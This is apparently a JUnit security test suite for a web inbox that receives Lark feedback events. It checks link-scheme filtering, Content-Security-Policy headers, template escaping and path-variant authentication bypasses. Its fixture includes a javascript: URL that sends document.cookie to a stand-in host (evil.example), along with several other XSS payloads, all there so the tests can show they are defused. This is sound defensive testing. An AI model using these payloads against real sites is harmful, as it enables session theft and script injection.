package dev.larkinbox.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonArray;
import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import dev.larkinbox.inbound.lark.fixtures.LarkFixtures;
import dev.larkinbox.inbound.web.EventLinks;
import dev.larkinbox.inbound.web.access.WebConfig;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystem;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The web inbox and the API as an attacker meets them: a hostile URL in an event, a page framed or sniffed, a
 * path written so that it slips past a filter, a query sent unencoded, the service's own endpoints read by anyone.
 * Each request is written byte for byte on a socket, as such a client sends it, not as a careful client would.
 */
@ExtendWith(SharedInbox.TokenOnly.class)
class WebSecurityTest {
    private static final String CRASH = "9100000000000000001";
    private static final Pattern INLINE_SCRIPT = Pattern.compile("<script(?![^>]*\\ssrc=)", Pattern.CASE_INSENSITIVE);
    private static final Pattern INLINE_HANDLER_OR_STYLE = Pattern.compile("\\s(on[a-z]+|style)\\s*=",
            Pattern.CASE_INSENSITIVE);

    private static RunningInbox inbox;
    private static String session;

    @BeforeAll
    static void arrive() {
        inbox = SharedInbox.tokenOnly(); // Lark's events posted plain, with the fixtures' verification token
        JsonObject event = LarkFixtures.json(LarkFixtures.FEEDBACK_CREATED);
        event.getAsJsonObject("header").addProperty("event_id", "ev-sec-1");
        JsonObject body = event.getAsJsonObject("event");
        body.addProperty("feedback_id", CRASH);
        body.addProperty("description", "打开小程序后白屏");
        JsonArray images = new JsonArray();
        List.of("javascript:fetch('//evil.example/?'+document.cookie)", "JavaScript:alert(1)",
                "data:text/html,<script>alert(1)</script>", "http://plain.example/b.png",
                "https://img.example/a.png").forEach(images::add);
        body.add("images", images);
        assertEquals(200, Http.postJson(inbox.uri().resolve("/webhook/event"), event.toString()).statusCode());
        // grouped (every second) before the tests compare answers, so that none changes between two requests
        InboxApi api = new InboxApi(inbox.uri());
        Awaitility.await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(100))
                .until(() -> !api.json("/api/feedback/" + CRASH).get("problem_id").isJsonNull());
        session = WebInboxBrowserTest.signInOverHttp(inbox.uri());
    }

    @Test
    void anImageUrlThatIsNotHttpsIsShownAsTextAndNeverBecomesALink() {
        Reply page = send("GET", "/feedback/" + CRASH, "Cookie: " + session);

        assertEquals(200, page.status(), page.body());
        assertTrue(page.body().contains("<a href=\"https://img.example/a.png\""), page.body());
        for (String scheme : List.of("javascript:", "data:", "http:")) {
            assertFalse(page.body().toLowerCase(Locale.ROOT).contains("href=\"" + scheme), scheme + " as a link");
        }
        assertTrue(page.body().contains("<code class=\"url\">javascript:fetch("), "shown as text: " + page.body());
        assertTrue(page.body().contains("<code class=\"url\">http://plain.example/b.png</code>"), page.body());
    }

    @Test
    void plainHttpBecomesALinkOnlyWhereConfiguredForTryingItLocally() {
        EventLinks strict = new EventLinks(
                new WebConfig(Duration.ofHours(12), Duration.ofDays(7), false, Duration.ofSeconds(5)));
        EventLinks local = new EventLinks(
                new WebConfig(Duration.ofHours(12), Duration.ofDays(7), true, Duration.ofSeconds(5)));

        assertTrue(strict.linkable("https://img.example/a.png"));
        assertTrue(strict.linkable("HTTPS://img.example/a.png"));
        assertFalse(strict.linkable("http://localhost:9000/a.png"));
        assertTrue(local.linkable("http://localhost:9000/a.png"));
        for (String hostile : List.of("javascript:alert(1)", "JAVASCRIPT:alert(1)", " https://img.example/a.png",
                "https:alert(1)", "data:image/png;base64,AAAA", "//evil.example/a.png", "vbscript:x", "")) {
            assertFalse(local.linkable(hostile), hostile);
        }
    }

    @Test
    void everyPageTellsTheBrowserToRunOnlyTheInboxsOwnFilesAndToKeepNothing() {
        for (String path : List.of("/", "/feedback/" + CRASH, "/problems", "/revocations", "/dashboard")) {
            Reply page = send("GET", path, "Cookie: " + session);
            assertEquals(200, page.status(), path);
            assertDefended(path, page);
            assertEquals("no-store", page.header("cache-control"), path + " shows personal data");
            assertFalse(INLINE_SCRIPT.matcher(page.body()).find(), path + " has an inline script");
            assertFalse(INLINE_HANDLER_OR_STYLE.matcher(page.body()).find(), path + " has an inline handler or style");
        }
        Reply signIn = send("GET", "/sign-in");
        assertDefended("/sign-in", signIn);
        String htmxConfig = signIn.body().substring(signIn.body().indexOf("name=\"htmx-config\""));
        assertTrue(htmxConfig.startsWith("name=\"htmx-config\" content='{") && htmxConfig.contains(
                "\"includeIndicatorStyles\":false") && htmxConfig.contains("\"allowEval\":false"), htmxConfig);
        Reply stylesheet = send("GET", "/assets/inbox.css");
        assertEquals("nosniff", stylesheet.header("x-content-type-options"));
        assertFalse("no-store".equals(stylesheet.header("cache-control")), "the same for everyone: cached");
    }

    @Test
    void aFormPostedFromAPageOfTheInboxIsTakenThoughItsOriginIsNullUnderNoReferrer() {
        Reply signedIn = exchange("POST", "/sign-in", "token=" + InboxApi.TOKEN, "Origin: null",
                "Content-Type: application/x-www-form-urlencoded");

        assertEquals(303, signedIn.status(), "what a browser sends at localhost: " + signedIn.body());
    }

    @Test
    void apiAnswersAreNeitherSniffedNorKept() {
        for (Reply answer : List.of(send("GET", "/api/feedback", "Authorization: Bearer " + InboxApi.TOKEN),
                send("GET", "/api/feedback"))) {
            assertEquals("nosniff", answer.header("x-content-type-options"));
            assertEquals("no-store", answer.header("cache-control"));
        }
    }

    @Test
    void noTemplateInsertsTextUnescaped() throws Exception {
        List<String> views = templates();
        assertTrue(views.size() >= 20 && views.contains("sign-in.html"), "every page's template read: " + views);
        for (String view : views) {
            try (InputStream in = getClass().getClassLoader().getResourceAsStream("views/" + view)) {
                assertNotNull(in, view);
                String template = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                assertFalse(template.contains("utext"), view + " inserts unescaped text");
            }
        }
        Reply dashboard = send("GET", "/dashboard", "Cookie: " + session);
        assertTrue(dashboard.body().contains("role=\"img\" aria-label=\"Feedback per day by priority, last 30 days"),
                dashboard.body());
    }

    @Test
    void anotherFormOfAPagePathIsSentToSignInLikeThePathItself() {
        for (String path : List.of("/dashboard", "/dashboard/", "/revocations/", "/problems/",
                "/feedback/" + CRASH + "/",
                "/?status=open", "/dashboard/?x=1", "//dashboard", "/problems//", "//feedback//" + CRASH)) {
            Reply page = send("GET", path);
            assertEquals(303, page.status(), path + ": " + page.body());
            assertEquals("/sign-in", URI.create(page.header("location")).getPath(), path);
        }
        Reply signOut = send("POST", "/sign-out/", "Content-Type: application/x-www-form-urlencoded");
        assertEquals(303, signOut.status(), signOut.body());
    }

    @Test
    void anotherFormOfAnApiPathAsksForTheTokenLikeThePathItself() {
        for (String path : List.of("/api/feedback", "//api/feedback", "/api//feedback", "/API/feedback",
                "/Api/feedback/", "/api/./feedback", "/api/feedback/" + CRASH + "/")) {
            Reply answer = send("GET", path);
            assertEquals(401, answer.status(), path + ": " + answer.body());
            assertEquals("Bearer", answer.header("www-authenticate"), path);
        }
    }

    @Test
    void aQueryOfRawUnencodedChineseGetsTheAnswerOfItsEncodedForm() {
        String token = "Authorization: Bearer " + InboxApi.TOKEN;
        Reply raw = send("GET", "/api/feedback?q=白屏", token);
        Reply encoded = send("GET", "/api/feedback?q=%E7%99%BD%E5%B1%8F", token);

        assertEquals(200, encoded.status(), encoded.body());
        assertTrue(encoded.body().contains(CRASH), encoded.body());
        assertEquals(200, raw.status(), raw.header("location") + " " + raw.body());
        assertEquals(found(encoded), found(raw));
        assertEquals(401, send("GET", "/api/feedback?q=白屏").status(), "without the token: 401, not sign-in");
        Reply malformed = send("GET", "/api/feedback?q=%zz", token);
        assertEquals(400, malformed.status(), "an escape that is none: " + malformed.body());
    }

    /** The feedback a search found; not their whole items, whose image copies the image job may be settling. */
    private static List<String> found(Reply page) {
        JsonArray items = JsonParser.parseString(page.body()).getAsJsonObject().getAsJsonArray("items");
        return StreamSupport.stream(items.spliterator(), false)
                .map(item -> item.getAsJsonObject().get("feedback_id").getAsString()).toList();
    }

    @Test
    void theMetricsAndTheApiDescriptionNeedTheTokenWhileTheHealthStatesStayOpen() {
        String token = "Authorization: Bearer " + InboxApi.TOKEN;
        for (String path : List.of("/prometheus", "/metrics", "/swagger/lark-app-inbox.yml",
                "/swagger-ui/index.html")) {
            assertEquals(401, send("GET", path).status(), path);
            assertEquals(200, send("GET", path, token).status(), path);
        }
        assertEquals(200, send("GET", "/swagger/lark-app-inbox.yml", "Cookie: " + session).status(),
                "a person signed in with the token may read the API's description");
        for (String path : List.of("/health", "/health/liveness", "/health/readiness")) {
            Reply states = send("GET", path);
            assertEquals(200, states.status(), path);
            assertFalse(states.body().contains("details"), path + ": " + states.body());
        }
        assertTrue(send("GET", "/health", token).body().contains("\"details\""));
    }

    /** An answer as it came off the socket. */
    private record Reply(int status, Map<String, String> headers, String body) {
        String header(String name) {
            return headers.get(name);
        }
    }

    private static Reply send(String method, String target, String... headers) {
        return exchange(method, target, "", headers);
    }

    /** The request written as it is given, bytes of UTF-8, unencoded: what a careless client sends. */
    private static Reply exchange(String method, String target, String body, String... headers) {
        StringBuilder request = new StringBuilder(method + " " + target + " HTTP/1.1\r\nHost: localhost\r\n");
        for (String header : headers) {
            request.append(header).append("\r\n");
        }
        request.append("Content-Length: ").append(body.getBytes(StandardCharsets.UTF_8).length)
                .append("\r\nConnection: close\r\n\r\n").append(body);
        try (Socket socket = new Socket(inbox.uri().getHost(), inbox.uri().getPort())) {
            socket.setSoTimeout(15_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.toString().getBytes(StandardCharsets.UTF_8));
            out.flush();
            byte[] answer = socket.getInputStream().readAllBytes();
            int end = indexOf(answer, 0, "\r\n\r\n");
            String[] lines = new String(answer, 0, end, StandardCharsets.UTF_8).split("\r\n");
            Map<String, String> heads = new HashMap<>();
            for (int i = 1; i < lines.length; i++) {
                int colon = lines[i].indexOf(':');
                heads.put(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT),
                        lines[i].substring(colon + 1).trim());
            }
            byte[] content = Arrays.copyOfRange(answer, end + 4, answer.length);
            return new Reply(Integer.parseInt(lines[0].split(" ")[1]), heads, new String(
                    "chunked".equals(heads.get("transfer-encoding")) ? unchunked(content) : content,
                    StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] unchunked(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int at = 0;
        while (true) {
            int lineEnd = indexOf(body, at, "\r\n");
            int size = Integer.parseInt(new String(body, at, lineEnd - at, StandardCharsets.US_ASCII).trim(), 16);
            if (size == 0) {
                return out.toByteArray();
            }
            out.write(body, lineEnd + 2, size);
            at = lineEnd + 2 + size + 2;
        }
    }

    private static int indexOf(byte[] bytes, int from, String ascii) {
        byte[] sought = ascii.getBytes(StandardCharsets.US_ASCII);
        for (int i = from; i <= bytes.length - sought.length; i++) {
            if (Arrays.equals(bytes, i, i + sought.length, sought, 0, sought.length)) {
                return i;
            }
        }
        throw new IllegalStateException("no " + ascii.strip() + " in the answer");
    }

    private static void assertDefended(String path, Reply page) {
        String policy = page.header("content-security-policy");
        assertNotNull(policy, path);
        for (String directive : List.of("default-src 'none'", "script-src 'self'", "style-src 'self'",
                "img-src 'self'", "frame-ancestors 'none'", "form-action 'self'", "base-uri 'none'",
                "object-src 'none'")) {
            assertTrue(policy.contains(directive), path + " lacks " + directive + ": " + policy);
        }
        assertFalse(policy.contains("unsafe"), path + ": " + policy);
        assertEquals("nosniff", page.header("x-content-type-options"), path);
        assertEquals("no-referrer", page.header("referrer-policy"), path);
    }

    /** Every template the web module ships, whether its classes come as a directory or as a jar. */
    private static List<String> templates() throws Exception {
        URI layout = WebSecurityTest.class.getClassLoader().getResource("views/layout.html").toURI();
        if ("jar".equals(layout.getScheme())) {
            try (FileSystem jar = FileSystems.newFileSystem(layout, Map.of())) {
                return names(jar.getPath("/views"));
            }
        }
        return names(Path.of(layout).getParent());
    }

    private static List<String> names(Path dir) throws IOException {
        try (Stream<Path> files = Files.list(dir)) {
            return files.map(f -> f.getFileName().toString()).filter(n -> n.endsWith(".html")).sorted().toList();
        }
    }
}
